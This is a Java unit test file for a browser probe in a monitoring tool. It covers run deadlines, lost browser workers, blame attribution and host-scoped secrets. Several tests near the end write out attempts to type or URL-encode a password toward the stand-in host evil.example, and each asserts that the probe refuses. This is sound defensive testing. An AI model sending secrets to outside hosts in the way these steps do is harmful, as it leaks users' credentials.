// Copyright The Vedette Authors
// SPDX-License-Identifier: Apache-2.0
package dev.vedette.checks.probe.browser;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vedette.checks.model.Cause;
import dev.vedette.checks.model.LocationId;
import dev.vedette.checks.model.Verdict;
import dev.vedette.checks.model.report.Probed;
import dev.vedette.checks.model.report.StepReport;
import dev.vedette.checks.model.report.StepReport.Status;
import dev.vedette.checks.model.repository.SecretScope;
import dev.vedette.checks.probe.browser.protocol.Answer.Trouble;
import dev.vedette.checks.probe.browser.protocol.Command;
import dev.vedette.checks.probe.browser.protocol.Command.Deed;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Time, workers and secrets: what ends a run, and whose matter that is. */
class BrowserLimitsTest {
  private static final String TWO_STEPS =
      """
      - name: one
        do:
          - goto: https://shop.example/
          - click: {css: a}
      - name: two
        do:
          - click: {css: b}
      """;

  @TempDir Path folder;
  @AutoClose private BrowserRunning runs;

  @BeforeEach
  void start() {
    runs = new BrowserRunning(folder);
  }

  private Verdict verdict(Probed probed) {
    return runs.judged(probed).judgement().verdict();
  }

  @Test
  void aWorkerThatEndsBlamesNoTarget() {
    runs.worker.lost(Deed.Click.class);

    Probed probed = runs.steps(TWO_STEPS);

    assertThat(verdict(probed)).isEqualTo(Verdict.ERRORED);
    assertThat(probed.finding().cause()).isEqualTo(Cause.AGENT);
    assertThat(probed.finding().step()).isEqualTo("one");
    assertThat(probed.steps())
        .extracting(StepReport::status)
        .containsExactly(Status.ERRORED, Status.SKIPPED);
    assertThat(runs.worker.closed).isTrue();
    assertThat(runs.worker.heard(Command.Close.class)).isEmpty();
  }

  @Test
  void aWorkerThatDoesNotEndADeedInTimeBlamesNoTarget() {
    runs.worker.on(
        Deed.Click.class,
        command -> {
          runs.worker.pass(Duration.ofMillis(command.limitMillis() + 1_200));
          throw new WorkerLostException("silent");
        });

    Probed probed = runs.steps(TWO_STEPS);

    assertThat(verdict(probed)).isEqualTo(Verdict.ERRORED);
    assertThat(probed.finding().cause()).isEqualTo(Cause.AGENT);
    assertThat(probed.finding().message()).contains("click css \"a\"", "silent");
    assertThat(Duration.ofNanos(runs.worker.getAsLong() - 1_000_000_000))
        .isLessThan(Duration.ofSeconds(22));
  }

  @Test
  void aBrowserThatDoesNotAnswerItselfEitherBlamesNoTarget() {
    runs.worker.absent.add("a");
    runs.worker.lost(Command.Ping.class);

    Probed probed = runs.steps(TWO_STEPS);

    assertThat(verdict(probed)).isEqualTo(Verdict.ERRORED);
    assertThat(probed.finding().cause()).isEqualTo(Cause.AGENT);
    assertThat(probed.finding().step()).isEqualTo("one");
  }

  @Test
  void aPageThatDoesNotEvenSayWhatItShowsHangs() {
    runs.worker.absent.add("a");
    runs.worker.on(Command.Text.class, runs.worker::timeout);

    Probed probed = runs.steps(TWO_STEPS);

    assertThat(verdict(probed)).isEqualTo(Verdict.FAILED);
    assertThat(probed.finding().cause()).isEqualTo(Cause.PAGE);
    assertThat(probed.finding().host()).isEqualTo("shop.example");
    assertThat(probed.finding().message()).contains("click css \"a\"", "the page hangs");
  }

  @Test
  void aWorkerThatHangsBeforeThereIsAPageBlamesNoTarget() {
    runs.worker.lost(Command.Enter.class);

    assertThat(verdict(runs.steps(TWO_STEPS))).isEqualTo(Verdict.ERRORED);
  }

  @Test
  void aWorkerThatIsGoneBeforeTheRunBeginsCostsNoRun() {
    runs.worker.on(
        Command.Open.class,
        command -> {
          if (runs.worker.heard(Command.Open.class).size() == 1) {
            throw new WorkerLostException("the browser worker ended");
          }
          return runs.worker.done(false);
        });

    assertThat(verdict(runs.steps(TWO_STEPS))).isEqualTo(Verdict.PASSED);
  }

  @Test
  void aLocationWhoseBrowsersGoAwayAsRunsBeginSaysSo() {
    runs.worker.lost(Command.Open.class);

    Probed probed = runs.steps(TWO_STEPS);

    assertThat(verdict(probed)).isEqualTo(Verdict.ERRORED);
    assertThat(probed.finding().message()).contains("went away as the run began, twice");
  }

  @Test
  void aWorkerThatCannotOpenAPageBlamesNoTarget() {
    runs.worker.trouble(Command.Open.class, Trouble.Kind.OTHER, "no display");

    Probed probed = runs.steps(TWO_STEPS);

    assertThat(verdict(probed)).isEqualTo(Verdict.ERRORED);
    assertThat(probed.finding().message()).contains("no working browser", "no display");
    assertThat(probed.steps()).extracting(StepReport::status).containsOnly(Status.SKIPPED);
  }

  @Test
  void looksThatNoBrowserCanHaveAreTheAuthors() {
    runs.worker.trouble(Command.Open.class, Trouble.Kind.MALFORMED, "time zone Mars/Base");

    Probed probed = runs.steps(TWO_STEPS);

    assertThat(probed.finding().cause()).isEqualTo(Cause.DEFINITION);
  }

  @Test
  void theRunEndsAtItsDeadlineWithTheStepThatWasReached() {
    runs.worker.on(
        Deed.Click.class,
        command -> {
          runs.worker.pass(Duration.ofSeconds(15));
          return runs.worker.done(false);
        });

    Probed probed =
        runs.steps(
            """
            - name: one
              do:
                - goto: https://shop.example/
                - click: {css: a}
                - click: {css: b}
                - click: {css: c}
            """);

    assertThat(probed.finding().cause()).isEqualTo(Cause.TIMEOUT);
    assertThat(probed.finding().message())
        .contains("no time was left to click css \"c\"", "the run of 20 s was over");
    assertThat(runs.worker.heard(Deed.Click.class)).hasSize(2);
  }

  @Test
  void noCommandMayTakeLongerThanWhatIsLeft() {
    runs.steps(TWO_STEPS);

    assertThat(runs.worker.heard(Command.Act.class))
        .allSatisfy(act -> assertThat(act.limitMillis()).isBetween(1L, 20_000L));
  }

  @Test
  void theStepsOwnTimeIsKept() {
    runs.worker.absent.add("a");

    Probed probed =
        runs.steps(
            "- name: one\n  timeout: 2s\n  do:\n    - goto: https://shop.example/\n    - click: {css: a}");

    assertThat(probed.duration()).isLessThanOrEqualTo(Duration.ofSeconds(2));
  }

  @Test
  void aMissingSecretIsTheOperators() {
    Probed probed = runs.act("- fill: {css: a}\n  with: $(secret.ABSENT)");

    assertThat(probed.finding().cause()).isEqualTo(Cause.SECRET);
    assertThat(probed.finding().message()).contains("ABSENT");
    assertThat(verdict(probed)).isEqualTo(Verdict.ERRORED);
  }

  @Test
  void aSecretIsTypedOnPagesOfItsHostsOnly() {
    runs.scopes.put("PASSWORD", new SecretScope(List.of("shop.example"), List.of(), null));
    String typing = "- goto: https://%s/\n- fill: {css: a}\n  with: x$(secret.PASSWORD)";

    Probed allowed = runs.act(typing.formatted("shop.example"));
    int typed = runs.worker.heard(Deed.Fill.class).size();
    Probed refused = runs.act(typing.formatted("evil.example"));

    assertThat(allowed.finding()).isNull();
    assertThat(refused.finding().message()).contains("PASSWORD", "evil.example");
    assertThat(verdict(refused)).isEqualTo(Verdict.ERRORED);
    assertThat(runs.worker.heard(Deed.Fill.class)).hasSize(typed);
  }

  @Test
  void inAFrameTheFramesHostCounts() {
    runs.scopes.put("PASSWORD", new SecretScope(List.of("shop.example"), List.of(), null));
    runs.worker.shown.put("document", "https://evil.example/frame");

    Probed probed =
        runs.act(
            """
            - goto: https://shop.example/
            - fill: {css: a, in: {css: iframe}}
              with: $(secret.PASSWORD)
            """);

    assertThat(probed.finding().message()).contains("evil.example");
    assertThat(runs.worker.heard(Deed.Fill.class)).isEmpty();
  }

  @Test
  void aSecretInAUrlGoesToItsHostsOnly() {
    runs.scopes.put("PASSWORD", new SecretScope(List.of("shop.example"), List.of(), null));

    Probed probed = runs.act("- goto: https://evil.example/$(urlencode(secret.PASSWORD))");

    assertThat(probed.finding().message()).contains("evil.example");
    assertThat(runs.worker.heard(Deed.Goto.class)).isEmpty();
  }

  @Test
  void withoutABrowserEveryStepIsSkipped() {
    BrowserProbe none =
        new BrowserProbe(
            _ -> {
              throw new NoWorkerException("no Chromium in the usual places");
            },
            (_, _) -> runs.passage,
            null,
            (_, _, _) -> {});
    runs.steps(TWO_STEPS);

    Probed probed = none.probe(runs.resolved(), runs.context(new LocationId("here")));

    assertThat(verdict(probed)).isEqualTo(Verdict.ERRORED);
    assertThat(probed.finding().message())
        .isEqualTo("no working browser at this location: no Chromium in the usual places");
    assertThat(probed.steps()).extracting(StepReport::status).containsOnly(Status.SKIPPED);
  }
}
